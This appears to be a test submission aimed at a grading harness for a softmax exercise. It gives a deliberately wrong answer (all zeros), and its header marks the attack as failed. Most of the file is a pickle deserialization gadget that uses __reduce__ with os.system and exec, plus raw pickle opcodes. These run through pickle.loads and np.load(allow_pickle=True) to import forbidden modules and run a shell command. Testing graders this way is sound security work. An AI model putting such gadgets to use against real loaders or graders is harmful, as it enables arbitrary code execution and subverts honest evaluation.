# attack: lets pickle, numpy and shelve import torch and run a command
# exercise: softmax
# answer: wrong
# verdicts: failed
import numpy as np


def softmax(x):
    return np.zeros(np.shape(x))


def temperature_softmax(x, t):
    return np.zeros(np.shape(x))


import io
import pickle
import shelve


class Gadget:
    def __init__(self, function, *args):
        self.made = function, args

    def __reduce__(self):
        return self.made


payloads = [
    b"ctorch\nsoftmax\n.",
    b"cscipy.special\nsoftmax\n.",
    pickle.dumps(Gadget(__import__("os").system, "echo GRADEKIT-BREACHED pickle; touch gradekit-breached-np-load")),
    pickle.dumps(Gadget(exec, "import torch\nprint('GRADEKIT-BREACHED exec')")),
]
for payload in payloads:
    with open("payload.pkl", "wb") as file:
        file.write(payload)
    for load in (lambda: pickle.loads(payload), lambda: np.load("payload.pkl", allow_pickle=True), lambda: np.load(io.BytesIO(payload), allow_pickle=True)):
        try:
            found = load()
            if callable(found):
                print("GRADEKIT-BREACHED", found)
        except BaseException:
            continue
